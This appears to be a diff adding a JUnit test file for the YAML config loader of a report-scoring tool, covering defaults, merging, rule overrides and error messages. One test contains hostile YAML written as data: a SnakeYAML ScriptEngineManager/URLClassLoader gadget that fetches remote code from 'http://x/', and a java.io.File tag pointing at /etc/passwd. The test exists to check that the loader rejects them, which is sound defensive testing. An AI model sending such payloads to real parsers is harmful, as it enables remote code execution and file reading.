@@ -1,0 +1,363 @@
+package org.huibao.config;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Optional;
+import java.util.regex.Pattern;
+import java.util.stream.Collectors;
+import org.huibao.model.Element;
+import org.huibao.model.Lang;
+import org.huibao.model.Severity;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+class ConfigLoaderTest {
+
+    @Test
+    void defaultsComeFromTheRepositoryConfig() throws ConfigException {
+        Config config = ConfigLoader.defaults();
+
+        assertEquals(80.0, config.threshold());
+        assertEquals(Lang.ZH, config.language());
+        assertEquals(new Config.Scoring(25, 15, 0, 10, 25, 5, 2, 0), config.scoring());
+        assertEquals(List.of(), config.rules().paths());
+        assertEquals(0, config.rules().overrides().size());
+        assertEquals(Optional.empty(), config.source());
+        assertEquals(3, config.elements().size());
+        for (Element element : Element.values()) {
+            ElementCues cues = config.cues(element);
+            assertEquals(element, cues.element());
+            assertFalse(cues.heading().isEmpty(), element + " heading");
+            assertFalse(cues.body().isEmpty(), element + " body");
+        }
+        assertEquals("组织领导", config.cues(Element.LEADERSHIP).name().zh());
+        assertEquals("next steps", config.cues(Element.NEXT_STEPS).name().en());
+        assertTrue(config.cues(Element.LEADERSHIP).stock().isEmpty(), "a list the element does not give is empty");
+        assertFalse(config.cues(Element.SHORTCOMINGS).stock().isEmpty());
+        assertEquals(4, config.context().specificMinChars());
+        assertEquals(30, config.context().sectionMinChars());
+        assertTrue(config.context().negation().matcher("没有").find());
+    }
+
+    @Test
+    void oneNestedNumberKeepsEverythingElse() throws ConfigException {
+        Config config = ConfigLoader.load("""
+                scoring:
+                  quality:
+                    error: 3
+                """, "my.yaml");
+
+        assertEquals(new Config.Scoring(25, 15, 0, 10, 25, 3, 2, 0), config.scoring());
+        assertEquals(80.0, config.threshold());
+        assertEquals(summary(ConfigLoader.defaults().cues(Element.SHORTCOMINGS)),
+                summary(config.cues(Element.SHORTCOMINGS)));
+    }
+
+    @Test
+    void aUserListReplacesTheBuiltInOne() throws ConfigException {
+        Config defaults = ConfigLoader.defaults();
+        Config config = ConfigLoader.load("""
+                elements:
+                  leadership:
+                    body:
+                      - 专项部署
+                      - 挂图作战
+                    exclude: 不算数
+                """, "my.yaml");
+
+        ElementCues cues = config.cues(Element.LEADERSHIP);
+        assertEquals(List.of("专项部署", "挂图作战"), strings(cues.body()));
+        assertEquals(List.of("不算数"), strings(cues.exclude()), "a single string is a list of one");
+        assertEquals(strings(defaults.cues(Element.LEADERSHIP).heading()), strings(cues.heading()));
+        assertEquals(defaults.cues(Element.LEADERSHIP).name(), cues.name());
+    }
+
+    @Test
+    void mapsMergeKeyByKey() throws ConfigException {
+        Config config = ConfigLoader.load("""
+                threshold: 70.5
+                language: en
+                elements:
+                  next_steps:
+                    name: {en: plans}
+                context:
+                  section_min_chars: 10
+                """, "my.yaml");
+
+        assertEquals(70.5, config.threshold());
+        assertEquals(Lang.EN, config.language());
+        assertEquals("plans", config.cues(Element.NEXT_STEPS).name().en());
+        assertEquals("下一步措施", config.cues(Element.NEXT_STEPS).name().zh());
+        assertEquals(10, config.context().sectionMinChars());
+        assertEquals(4, config.context().specificMinChars());
+    }
+
+    @Test
+    void ruleOverrides() throws ConfigException {
+        Config config = ConfigLoader.load("""
+                rules:
+                  overrides:
+                    HB301: {severity: warning, enabled: false}
+                    HB102:
+                      blocking: true
+                """, "my.yaml");
+
+        assertEquals(new RuleOverride(Optional.of(Severity.WARNING), Optional.of(false), Optional.empty()),
+                config.rules().override("HB301").orElseThrow());
+        assertEquals(new RuleOverride(Optional.empty(), Optional.empty(), Optional.of(true)),
+                config.rules().override("HB102").orElseThrow());
+        assertEquals(Optional.empty(), config.rules().override("HB999"));
+    }
+
+    @Test
+    void emptyOrCommentOnlyFileIsTheDefaults() throws ConfigException {
+        String defaults = summary(ConfigLoader.defaults());
+        assertEquals(defaults, summary(ConfigLoader.load("", "empty.yaml")));
+        assertEquals(defaults, summary(ConfigLoader.load("# nothing set\n\n# still nothing\n", "comments.yaml")));
+        assertEquals(defaults, summary(ConfigLoader.load("scoring:\n  # quality:\n  #   error: 3\n", "bare.yaml")));
+    }
+
+    @Test
+    void unknownTopLevelKeySuggestsTheNearestOne() {
+        assertError("my.yaml:2: unknown key \"thershold\" (did you mean \"threshold\"?)", """
+                language: zh
+                thershold: 90
+                """);
+        assertError("my.yaml:1: unknown key \"colour\"", "colour: red\n");
+        assertError("my.yaml:1: unknown key \"thresh\" (did you mean \"threshold\"?)", "thresh: 60\n");
+    }
+
+    @Test
+    void unknownNestedKeyNamesItsPath() {
+        assertError("my.yaml:4: unknown key \"scoring.quality.eror\" (did you mean \"scoring.quality.error\"?)", """
+                scoring:
+                  quality:
+                    max: 20
+                    eror: 3
+                """);
+        assertError("my.yaml:3: unknown key \"elements.leadrship\" (did you mean \"elements.leadership\"?)", """
+                threshold: 80
+                elements:
+                  leadrship:
+                    body: [x]
+                """);
+        assertError("my.yaml:4: unknown key \"rules.overrides.HB301.blocked\" "
+                + "(did you mean \"rules.overrides.HB301.blocking\"?)", """
+                rules:
+                  overrides:
+                    HB301:
+                      blocked: true
+                """);
+    }
+
+    @Test
+    void wrongTypesNameThePathAndLine() {
+        assertError("my.yaml:3: scoring.quality.error must be a number, got \"five\"", """
+                scoring:
+                  quality:
+                    error: five
+                """);
+        assertError("my.yaml:4: elements.leadership.body must be a list of regular expressions, got a mapping", """
+                elements:
+                  leadership:
+                    body:
+                      a: b
+                """);
+        assertError("my.yaml:1: scoring must be a mapping, got a list", "scoring: [1, 2]\n");
+        assertError("my.yaml:2: context.specific_min_chars must be a whole number, got 2.5", """
+                context:
+                  specific_min_chars: 2.5
+                """);
+        assertError("my.yaml:4: rules.overrides.HB301.enabled must be true or false, got \"maybe\"", """
+                rules:
+                  overrides:
+                    HB301:
+                      enabled: maybe
+                """);
+        assertError("my.yaml:1: threshold must be between 0 and 100, got 150", "threshold: 150\n");
+        assertError("my.yaml:3: scoring.elements.absent must not be negative, got -1", """
+                scoring:
+                  elements:
+                    absent: -1
+                """);
+        assertError("my.yaml:1: language must be zh or en, got \"fr\"", "language: fr\n");
+        assertError("my.yaml:1: a config file must be a mapping of keys to values, got a list", "- threshold\n");
+    }
+
+    @Test
+    void badRegularExpressionNamesItsIndexAndLine() {
+        String message = error("""
+                # my lexicon
+                elements:
+                  leadership:
+                    body:
+                      - 领导小组
+                      - 专班
+                      - (压实|扛起
+                """);
+        assertEquals("my.yaml:7: elements.leadership.body[2]: invalid regular expression: "
+                + firstLine(() -> Pattern.compile("(压实|扛起")), message);
+
+        assertError("my.yaml:2: context.negation: invalid regular expression: "
+                + firstLine(() -> Pattern.compile("[没有")), """
+                context:
+                  negation: "[没有"
+                """);
+    }
+
+    @Test
+    void badSeverityInOverrides() {
+        assertError("my.yaml:4: rules.overrides.HB301.severity must be error, warning or info, got \"fatal\"", """
+                rules:
+                  overrides:
+                    HB301:
+                      severity: fatal
+                """);
+    }
+
+    @Test
+    void badRuleId() {
+        assertError("my.yaml:3: rules.overrides: invalid rule id \"hb301\" "
+                + "(expected capital letters then three digits, e.g. HB301)", """
+                rules:
+                  overrides:
+                    hb301:
+                      enabled: false
+                """);
+    }
+
+    @Test
+    void duplicateKey() {
+        assertError("my.yaml:3: duplicate key \"threshold\"", """
+                threshold: 70
+                language: zh
+                threshold: 90
+                """);
+    }
+
+    @Test
+    void yamlSyntaxErrorHasLineAndColumn() {
+        assertError("my.yaml:3:8: YAML syntax error: mapping values are not allowed here", """
+                threshold: 80
+                scoring:
+                  quality: error: 3
+                """);
+        String unclosed = error("threshold: 80\nlanguage: [zh,\n");
+        assertTrue(unclosed.startsWith("my.yaml:3:1: YAML syntax error: expected ',' or ']'"), unclosed);
+        assertOneLine(unclosed);
+    }
+
+    @Test
+    void globalAndLocalTagsAreRejected() {
+        assertError("my.yaml:2:12: tag !!java.io.File is not allowed (a config file holds plain values only)", """
+                language: zh
+                threshold: !!java.io.File /etc/passwd
+                """);
+        assertError("my.yaml:1:1: tag !!javax.script.ScriptEngineManager is not allowed "
+                + "(a config file holds plain values only)",
+                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n");
+        assertError("my.yaml:3: tag !pattern is not allowed (a config file holds plain values only)", """
+                elements:
+                  leadership:
+                    body: !pattern 领导
+                """);
+    }
+
+    @Test
+    void missingFile(@TempDir Path dir) {
+        Path missing = dir.resolve("nope.yaml");
+        ConfigException e = assertThrows(ConfigException.class, () -> ConfigLoader.load(missing));
+        assertEquals(missing + ": config file not found", e.getMessage());
+    }
+
+    @Test
+    void unreadableFile(@TempDir Path dir) throws Exception {
+        ConfigException folder = assertThrows(ConfigException.class, () -> ConfigLoader.load(dir));
+        assertEquals(dir + ": cannot read config file: it is a directory", folder.getMessage());
+
+        Path latin1 = dir.resolve("latin1.yaml");
+        Files.write(latin1, "language: zh # caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1));
+        ConfigException encoding = assertThrows(ConfigException.class, () -> ConfigLoader.load(latin1));
+        assertEquals(latin1 + ": cannot read config file: not valid UTF-8", encoding.getMessage());
+    }
+
+    @Test
+    void fileErrorsNameTheFileAsGiven(@TempDir Path dir) throws Exception {
+        Path file = Files.writeString(dir.resolve("huibao.yaml"), "\uFEFFthreshold: 80\nscoring:\n  qualty: {}\n");
+        ConfigException e = assertThrows(ConfigException.class, () -> ConfigLoader.load(file));
+        assertEquals(file + ":3: unknown key \"scoring.qualty\" (did you mean \"scoring.quality\"?)", e.getMessage());
+    }
+
+    @Test
+    void rulePathsResolveAgainstTheConfigFilesFolder(@TempDir Path dir) throws Exception {
+        Path conf = Files.createDirectories(dir.resolve("conf"));
+        Path absolute = dir.resolve("elsewhere").toAbsolutePath();
+        Path file = Files.writeString(conf.resolve("huibao.yaml"), """
+                rules:
+                  paths:
+                    - rules
+                    - ../shared/rules
+                    - %s
+                """.formatted(absolute), StandardCharsets.UTF_8);
+
+        Config config = ConfigLoader.load(file);
+
+        Path base = conf.toAbsolutePath().normalize();
+        assertEquals(List.of(base.resolve("rules"), base.resolveSibling("shared").resolve("rules"), absolute),
+                config.rules().paths());
+        assertEquals(Optional.of(file), config.source());
+    }
+
+    @Test
+    void rulePathsFromTextResolveAgainstTheCurrentDirectory() throws ConfigException {
+        Config config = ConfigLoader.load("rules: {paths: extra-rules}\n", "my.yaml");
+        assertEquals(List.of(Path.of("").toAbsolutePath().resolve("extra-rules")), config.rules().paths());
+    }
+
+    private static void assertError(String expected, String yaml) {
+        assertEquals(expected, error(yaml));
+    }
+
+    private static String error(String yaml) {
+        ConfigException e = assertThrows(ConfigException.class, () -> ConfigLoader.load(yaml, "my.yaml"));
+        assertOneLine(e.getMessage());
+        return e.getMessage();
+    }
+
+    private static void assertOneLine(String message) {
+        assertFalse(message.contains("\n") || message.contains("\r"), () -> "not one line: " + message);
+    }
+
+    private static String firstLine(Runnable compile) {
+        Exception e = assertThrows(Exception.class, compile::run);
+        return e.getMessage().lines().findFirst().orElseThrow().strip();
+    }
+
+    private static List<String> strings(List<Pattern> patterns) {
+        return patterns.stream().map(Pattern::pattern).toList();
+    }
+
+    /** Patterns have identity equality, so configs are compared through their text. */
+    private static String summary(Config c) {
+        String elements = c.elements().keySet().stream().sorted()
+                .map(e -> summary(c.cues(e))).collect(Collectors.joining("\n"));
+        Context x = c.context();
+        return String.join("\n", String.valueOf(c.threshold()), c.language().id(), c.scoring().toString(),
+                c.rules().toString(), elements, x.negation().pattern(), strings(x.remedial()).toString(),
+                strings(x.resolved()).toString(), strings(x.otherParty()).toString(), strings(x.preview()).toString(),
+                String.valueOf(x.specificMinChars()), x.genericTopic().pattern(), String.valueOf(x.sectionMinChars()),
+                c.source().toString());
+    }
+
+    private static String summary(ElementCues cues) {
+        return cues.element() + " " + cues.name() + " " + strings(cues.heading()) + strings(cues.headingExclude())
+                + strings(cues.body()) + strings(cues.leadIn()) + strings(cues.stock()) + strings(cues.exclude());
+    }
+}
